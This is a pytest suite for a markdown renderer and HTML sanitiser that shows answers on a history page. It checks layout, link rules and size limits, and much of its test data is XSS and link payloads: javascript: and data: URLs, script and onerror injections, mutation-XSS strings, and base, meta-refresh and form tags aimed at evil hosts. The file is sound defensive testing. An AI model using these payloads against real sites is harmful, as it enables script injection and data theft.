"""Answers on the history page: laid out as they were meant, and harmless whatever they were meant for."""

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from application.wording.pages import CHINESE
from entrypoints.web.history import markdown
from entrypoints.web.history.markdown import (
    ATTRIBUTES,
    LARGEST,
    LONGEST,
    SCHEMES,
    TAGS,
    AnswerMarkdown,
    sanitised,
)

LAYS_OUT = AnswerMarkdown(CHINESE)
REL = "noopener noreferrer nofollow"

Tag = tuple[str, dict[str, str | None]]


class Reader(HTMLParser):
    """Every tag that a piece of HTML opens, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.opened: list[Tag] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.opened.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def html_of(text: str) -> str:
    html = LAYS_OUT.html(text)
    assert html is not None
    return str(html)


def links(html: str) -> list[str | None]:
    return [attributes.get("href") for tag, attributes in Reader(html).opened if tag == "a"]


def evils(html: str) -> Iterator[str]:
    """What HTML of an answer may not hold."""
    for tag, attributes in Reader(html).opened:
        if tag not in TAGS:
            yield tag
        for name, value in attributes.items():
            if name not in {"class", "rel", *ATTRIBUTES.get(tag, ())}:
                yield f"{tag} {name}"
            if name == "href" and urlsplit(value or "").scheme not in SCHEMES:
                yield f"{tag} {name}={value}"
        if tag == "a" and attributes.get("rel") != REL:
            yield "a without rel"


def test_markdown_is_laid_out() -> None:
    html = html_of("# 一\n\n**二** `三`\n\n- 四\n\n> 五\n\n~~六~~")

    shown = [tag for tag, _ in Reader(html).opened]
    assert shown == ["h4", "p", "strong", "code", "ul", "li", "blockquote", "p", "p", "s"]


def test_headings_stay_below_those_of_the_page() -> None:
    html = html_of("".join(f"{'#' * level} a\n\n" for level in range(1, 7)))

    assert re.findall(r"<h(\d)", html) == list("456666")


def test_line_ends_of_the_answer_are_kept() -> None:
    assert html_of("一\n二") == "<p>一<br>\n二</p>\n"


def test_a_table_keeps_its_alignment_without_a_style() -> None:
    html = html_of("|a|b|c|d|\n|-|:-|:-:|-:|\n|1|2|3|4|")

    cells = [attributes.get("class") for tag, attributes in Reader(html).opened if tag == "td"]
    assert cells == [None, "left", "center", "right"]
    assert html.startswith('<div class="wide"><table>')


@pytest.mark.parametrize(
    ("info", "caption"),
    [("python", ["python"]), ("c++ title=x", ["c++"]), ("", []), ("<b>", []), ("x" * 21, [])],
)
def test_a_code_block_names_its_language(info: str, caption: list[str]) -> None:
    html = html_of(f"```{info}\n<script>&amp;\n```")

    assert re.findall("<figcaption>(.*)</figcaption>", html) == caption
    assert "<pre><code>&lt;script&gt;&amp;amp;\n</code></pre>" in html


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![示意](https://evil.example/?q=secret)", "图片：示意（evil.example）"),
        ("![a **b**](http://evil.example/x.png 'title')", "图片：a **b**（evil.example）"),
        ("![示意][1]\n\n[1]: https://evil.example/i.png", "图片：示意（evil.example）"),
        ("> - ![](https://user:pw@evil.example:81/x)", "图片：（evil.example）"),
        ("|![a](https://evil.example/x)|\n|-|", "图片：a（evil.example）"),
        ("![a](https&#58;//evil.example/x)", "图片：a（evil.example）"),
    ],
)
def test_x1_an_image_is_a_link_with_its_host_in_sight(text: str, shown: str) -> None:
    html = html_of(text)

    assert shown in Reader(html).text
    assert "<img" not in html
    assert [urlsplit(link or "").hostname for link in links(html)] == ["evil.example"]


def test_x1_an_image_within_a_link_is_its_words() -> None:
    html = html_of("[![a](https://evil.example/x.png)](https://other.example/) ![b](https://c.d/)")

    assert links(html) == ["https://other.example/", "https://c.d/"]
    assert "图片：a（evil.example）" in html


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#x0A;script:alert(1)",
        "&#106;avascript:alert(1)",
        "data:text/html,<script>1</script>",
        "data:image/png;base64,AAAA",
        "data:image/svg+xml,x",
        "vbscript:x",
        "file:///etc/passwd",
        "dtmd://dingtalkclient/sendMessage?content=x",
        "dingtalk://x",
        "//evil.example/x",
        "/history/revoked",
        "revoked",
        "?page=2",
        "#records",
        "https:evil.example",
        "https:///evil.example",
        "http://[evil",
        r"https:\\evil.example",
    ],
)
@pytest.mark.parametrize("form", ["[x]({})", "![x]({})", "<{}>", "[x][1]\n\n[1]: {}"])
def test_x2_a_link_leads_out_into_the_web_or_nowhere(address: str, form: str) -> None:
    html = html_of(form.format(address))

    assert [link for link in links(html) if link is not None] == []
    assert "<img" not in html


def test_a_link_that_leads_nowhere_stands_as_it_was_written() -> None:
    text = "[x](javascript:alert(1)) [y](/history/revoked) ![z](data:image/png;base64,AAAA)"

    assert html_of(text) == f"<p>{text}</p>\n"


def test_good_links_tell_their_target_nothing() -> None:
    html = html_of("[a](https://a.example/?b=c&d) <mailto:a@b.example> <http://b.example>")

    assert links(html) == ["https://a.example/?b=c&d", "mailto:a@b.example", "http://b.example"]
    assert html.count(f'rel="{REL}"') == 3


def test_x3_what_the_renderer_lets_through_is_stopped_behind_it() -> None:
    leaky = AnswerMarkdown(CHINESE)
    leaky._markdown.options["html"] = True  # noqa: SLF001 - as if the renderer had a hole
    leaky._markdown.enable(["html_block", "html_inline"])  # noqa: SLF001 - as above

    html = leaky.html("<b onclick=x>a</b><script>alert(1)</script>\n\n<iframe src=//evil></iframe>")

    assert html is not None
    assert list(evils(str(html))) == []
    assert "alert" not in html


@pytest.mark.parametrize(
    "html",
    [
        "<script>x</script>",
        "<p onclick=x>",
        '<p style="background:url(//evil)">',
        "<img src=https://evil.example/x>",
        "<a href='javascript:x'>",
        "<a href='/history/revoked'>",
        "<a href=https://a.example target=_top>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1>'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<base href=//evil><meta http-equiv=refresh content='0;url=//evil'><link rel=x href=x>",
        "<form action=//evil><input><button formaction=//evil>",
        "<!--><img src=x onerror=x>-->",
        '<div class="skip danger"><td class="button">',
    ],
)
def test_x3_the_sanitiser_leaves_only_what_is_listed(html: str) -> None:
    left = sanitised(html)

    assert list(evils(left)) == []
    assert not re.search("evil|alert|skip|button", re.sub("href=.https://a.example.", "", left))


PIECES = ["a", "\n", " ", "*", "`", "[x](", "![x](", ")", "<", ">", "&lt;", "javascript:", '"', "'"]
PIECES += [
    "https://a.b",
    "| ",
    "|-|",
    "- ",
    "<script>",
    "<img src=x onerror=y>",
    "<!--",
    "```",
    "\\",
]


@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
def test_no_answer_becomes_more_than_text_and_its_form(text: str) -> None:
    html = html_of(text)

    assert list(evils(html)) == []
    assert sanitised(html) == html


@given(st.text(max_size=50))
def test_any_text_can_be_laid_out(text: str) -> None:
    assert list(evils(html_of(text))) == []


def test_what_is_too_long_is_not_laid_out() -> None:
    assert LAYS_OUT.html("a" * LONGEST) is not None
    assert LAYS_OUT.html("a" * (LONGEST + 1)) is None


def test_what_becomes_too_large_is_not_laid_out() -> None:
    sparse = "|a" * 300 + "\n" + "|-" * 300 + "\n" + "|\n" * 200

    assert len(sparse) < LONGEST
    assert len(markdown.AnswerMarkdown(CHINESE)._markdown.render(sparse)) > LARGEST  # noqa: SLF001 - what it would be
    assert LAYS_OUT.html(sparse) is None


@pytest.mark.parametrize("piece", ["[", "![", "> ", "- ", "*a **b ", "`", "<a ", "\t", "(["])
def test_nothing_nests_so_deep_that_it_breaks(piece: str) -> None:
    html_of(piece * (5000 // len(piece)))
